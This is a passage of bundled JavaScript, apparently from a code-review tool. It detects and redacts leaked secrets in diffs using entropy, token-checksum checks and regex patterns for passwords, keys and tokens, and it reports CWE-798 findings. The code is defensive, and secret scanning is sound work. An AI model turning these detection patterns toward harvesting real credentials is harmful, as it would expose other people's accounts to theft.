        return { name, start, end, secret: text.slice(start, end) };
    }))
        .sort((a, b) => a.start - b.start || b.end - a.end);
    const found = [];
    for (const key of all)
        if (key.start >= (found.at(-1)?.end ?? 0))
            found.push(key);
    return found;
};

// EXTERNAL MODULE: external "node:zlib"
var external_node_zlib_ = __webpack_require__(38522);
;// CONCATENATED MODULE: ./build/src/core/secrets/secret-strength.js

/** Shannon entropy in bits a character: about 4 of random hexadecimal digits, up to 6 of base 64, 2 to 3.5 of words. */
const entropyOf = (text) => {
    const counts = new Map();
    for (const character of text)
        counts.set(character, (counts.get(character) ?? 0) + 1);
    const length = [...text].length;
    return [...counts.values()].reduce((sum, count) => sum - (count / length) * Math.log2(count / length), 0);
};
const digits = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
/** The last six characters of GitHub's and npm's tokens: CRC-32 of the random part in base 62 (github.blog, 2021-04-05). */
const checksumOf = (body) => {
    let rest = (0,external_node_zlib_.crc32)(body);
    let text = '';
    while (text.length < 6) {
        text = (digits[rest % 62] ?? '0') + text;
        rest = Math.floor(rest / 62);
    }
    return text;
};
/** Whether a token's checksum fits: then it was made by its issuer. null: this kind has none. */
const checksumFits = (token) => {
    const body = /^(?:gh[pousr]|npm)_([A-Za-z0-9]{36})$/.exec(token)?.[1];
    return body === undefined ? null : checksumOf(body.slice(0, 30)) === body.slice(30);
};
const stands = /example|sample|placeholder|dummy|fake|change.?me|your[-_ ]|redacted|not.?a.?(?:real|secret)|insert|replace|todo|xxxx|\*\*\*|\.\.\.|<[^>]*>|\$\{|\{\{|%s|lorem/i;
/** Written to stand for a secret, or too regular to be one. */
const isPlaceholder = (secret) => stands.test(secret) ||
    /(.)\1{5}/.test(secret) ||
    /(?:01234567|12345678|abcdefgh|qwertyui|deadbeef)/i.test(secret) ||
    new Set(secret).size < Math.min(6, secret.length);

// EXTERNAL MODULE: ./build/src/core/security/language.js
var language = __webpack_require__(93736);
;// CONCATENATED MODULE: ./build/src/core/security/find-leaks.js



const severityOf = {
    'private key': 'critical',
    'AWS secret key': 'critical',
    'AWS access key': 'high',
    GitHub: 'critical',
    'JSON Web Token': 'medium',
    authorization: 'medium',
    'password of an address': 'high',
};
/** Kinds that a person chose: their last characters would tell too much. */
const inAnImage = 'credential in an image';
const chosenByPeople = new Set([inAnImage, 'password of an address', 'hard-coded credential', 'authorization']);
/**
 * Real-looking secrets in a text of a file: placeholders, examples and what is too regular are left out. In test code only
 * what proves itself keeps its severity.
 */
const findLeaks = (text, path) => {
    const keys = findKeys(text).map(key => ({ kind: key.name, start: key.start, end: key.end, secret: key.secret }));
    const named = (0,language/* isGenerated */.UK)(path) ? [] : [...namedCredentials(text), ...unquotedCredentials(text, path)];
    const all = [...keys, ...named.filter(one => !keys.some(key => one.start < key.end && key.start < one.end))];
    return all.flatMap(one => leakOf(one, path) ?? []);
};
const leakOf = (found, path) => {
    const { kind, secret } = found;
    const fits = checksumFits(secret);
    const mayBeNone = fits !== true && kind !== 'private key';
    if (mayBeNone && (isPlaceholder(secret) || (kind !== inAnImage && entropyOf(secret) < 2.8)))
        return null;
    const isTest = ((0,language/* isTestCode */.MH)(path) && fits !== true) || /^(?:sk|rk)_test_/.test(secret);
    const doubt = isTest || fits === false ? 0.5 : 1;
    const isShowable = !chosenByPeople.has(kind) && secret.length >= 16 && kind !== 'private key';
    return {
        ...found,
        label: isShowable ? `${kind} …${secret.slice(-4)}` : kind,
        severity: isTest ? 'low' : (severityOf[kind] ?? 'high'),
        confidence: fits === true ? 0.99 : (kind === 'hard-coded credential' ? 0.6 : 0.8) * doubt,
        certain: fits === true,
    };
};
const assignment = /(?<![A-Za-z0-9])([A-Za-z0-9_.-]{0,40}(?:passw(?:or)?d|passphrase|secret|api[_-]?key|access[_-]?key|auth[_-]?token|private[_-]?key|client[_-]?secret|credential|[a-z]key|token)[A-Za-z0-9_-]{0,20}["']?\s{0,8}(?::=|[:=]|=>)\s{0,8}["'`])([^\s"'`]{10,200})["'`]/gi;
/** `mailKey = "..."`: the name says that it is one, the value looks drawn by lot. */
const namedCredentials = (text) => [...text.matchAll(assignment)].flatMap(match => {
    const secret = match[2] ?? '';
    if (!looksDrawn(secret))
        return [];
    const start = match.index + (match[1]?.length ?? 0);
    return [{ kind: 'hard-coded credential', start, end: start + secret.length, secret }];
});
const names = '(?:PASSWORD|PASSWD|PASSPHRASE|SECRET|TOKEN|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIALS?)';
const inImage = new RegExp(`^([ \\t]*(?:ENV|ARG)[ \\t]+[A-Za-z0-9_]*${names}[A-Za-z0-9_]*[= \\t]+["']?)(?![$"'\\s])([^\\s"']{3,200})`, 'gim');
const inSettings = new RegExp(`^([ \\t]*(?:export[ \\t]+|-[ \\t]+)?[A-Za-z0-9_.-]{0,40}${names}[A-Za-z0-9_-]{0,20}[ \\t]*[:=][ \\t]*)(?![$"'{[<\\s])([^\\s"'#]{10,200})[ \\t]*$`, 'gim');
/** Where values need no quotes. What stands in an image is one whatever it looks like. */
const unquotedCredentials = (text, path) => {
    const isImage = (0,language/* languageOf */.eX)(path) === 'docker';
    if (!isImage && !/(?:^|\/)\.env|\.(?:env|ya?ml|properties|ini|conf|cfg|toml|sh|bash)$/i.test(path))
        return [];
    return [...text.matchAll(isImage ? inImage : inSettings)].flatMap(match => {
        const secret = match[2] ?? '';
        if (!isImage && !looksDrawn(secret))
            return [];
        const start = match.index + (match[1]?.length ?? 0);
        return [{ kind: isImage ? inAnImage : 'hard-coded credential', start, end: start + secret.length, secret }];
    });
};
/** Not a sentence, a path, an address, a variable or the name of something. */
const looksDrawn = (value) => {
    if (/^(?:https?:|\/|\.|\$|#|@)|process\.env|^[A-Z_]+$|^[a-z]+(?:[-_.:/ ][a-z]+)*$/i.test(value))
        return false;
    const classes = [/[a-z]/, /[A-Z]/, /\d/, /[^A-Za-z0-9]/].filter(pattern => pattern.test(value)).length;
    return /\d/.test(value) && classes >= 2 && entropyOf(value) >= 3.2;
};

;// CONCATENATED MODULE: ./build/src/core/security/redact-leaks.js


/** Secrets on new lines become candidates; those on any line, deleted ones too, are replaced. */
const redactLeaks = (files, everything) => {
    const candidates = [];
    const secrets = new Set();
    const redacted = files.map(file => ({
        ...file,
        hunks: file.hunks.map(hunk => {
            const right = leaksOf(hunk, 'RIGHT', file.path);
            const left = leaksOf(hunk, 'LEFT', file.path);
            const lines = new Map(hunk.lines.map(line => [line, redactLine(line, [...right, ...left])]));
            for (const { leak } of [...right, ...left])
                for (const part of partsOf(leak.secret))
                    secrets.add(part);
            for (const found of right) {
                const [first] = found.lines;
                if (first === undefined || !(everything || first.line.kind === 'added'))
                    continue;
                candidates.push(candidateOf(found.leak, file.path, lines.get(first.line) ?? first.line));
            }
            return { ...hunk, lines: hunk.lines.map(line => lines.get(line) ?? line) };
        }),
    }));
    return { files: redacted, candidates, secrets: [...secrets] };
};
const leaksOf = (hunk, side, path) => {
    const lines = (0,diff/* sideLines */.l)(hunk, side);
    const starts = [];
    let at = 0;
    for (const { text } of lines) {
        starts.push(at);
        at += text.length + 1;
    }
    return findLeaks(lines.map(({ text }) => text).join('\n'), path).map(leak => ({
        leak,
        lines: lines.flatMap((line, index) => {
            const from = starts[index] ?? 0;
            const start = Math.max(0, leak.start - from);
            const end = Math.min(line.text.length, leak.end - from);
            return start < end ? [{ line, start, end }] : [];
        }),
    }));
};
const redactLine = (line, leaks) => {
    const parts = leaks
        .flatMap(({ leak, lines }) => lines.flatMap((part, index) => part.line === line ? [{ ...part, label: index === 0 ? `[redacted: ${leak.label}]` : '[redacted]' }] : []))
        .sort((a, b) => b.start - a.start);
    if (parts.length === 0)
        return line;
    let { text } = line;
    let before = Number.POSITIVE_INFINITY;
    for (const { start, end, label } of parts) {
        // A line of the context is on both sides, with the same secret.
        if (end > before)
            continue;
        text = text.slice(0, start) + label + text.slice(end);
        before = start;
    }
    return { ...line, text };
};
/** Of a secret of several lines each line that is not a mere word. */
const partsOf = (secret) => secret
    .split(/\r?\n|\\n/)
    .map(part => part.trim())
    .filter(part => part.length >= 8 && !/^-----/.test(part));
const candidateOf = (leak, path, { newLine, text }) => ({
    rule: 'leaked-secret',
    cwe: 'CWE-798',
    severity: leak.severity,
    confidence: leak.confidence,
    path,
    startLine: newLine ?? 1,
    endLine: newLine ?? 1,
    quote: text.replace(/\r$/, ''),
    title: `A secret in the code: ${leak.label}`,
    body: leak.certain
        ? 'Its checksum fits, so its issuer made it.'
        : 'It has the shape of one; whether it is valid was not tried.',
    exploit: 'Everyone who can read the repository, its history or a copy of it can use it until it is revoked.',
    fix: 'Revoke it first: removing the line does not remove it from the history. Then read the new one from the environment or a secret store.',
    certain: leak.certain,
});


/***/ }),

/***/ 49820:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   b: () => (/* binding */ agentFileNotes)
/* harmony export */ });
/* harmony import */ var _core_patch_agent_files_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77935);

/** A change to what instructs agents is worth a second look, whoever made it. */
const agentFileNotes = ({ isForeign, work }, files) => {
    const changed = files.map(({ path }) => path).filter(_core_patch_agent_files_js__WEBPACK_IMPORTED_MODULE_0__/* .isAgentFile */ .s);
    if (changed.length === 0)
        return [];
    const shown = changed.slice(0, 10);
    const which = isForeign && work.isCopy ? 'this review went by the version of the base branch' : 'look at it yourself';
    return [`The change touches what instructs agents or runs programs around them (${shown.join(', ')}); ${which}.`];
};


/***/ }),

/***/ 19054:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   x: () => (/* binding */ readTreeFile)
/* harmony export */ });
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(51455);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);


const maxBytes = 5_000_000;
/** A regular file in the folder; links are not followed, whatever part of the path is one. */
const readTreeFile = async (directory, path) => {
    const file = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(directory, path);
    const inside = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.relative)(directory, file);
    if (inside === '' || inside === '..' || inside.startsWith(`..${node_path__WEBPACK_IMPORTED_MODULE_1__.sep}`))
        return null;
    try {
        const stats = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.lstat)(file);
        if (!stats.isFile() || stats.size > maxBytes)
            return null;
        if ((await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.realpath)(file)) !== (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.realpath)(directory), inside))
            return null;
        const content = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readFile)(file);
        return content.subarray(0, 8_000).includes(0) ? null : content.toString('utf8');
    }
    catch {
        return null;
    }
};


/***/ })

};
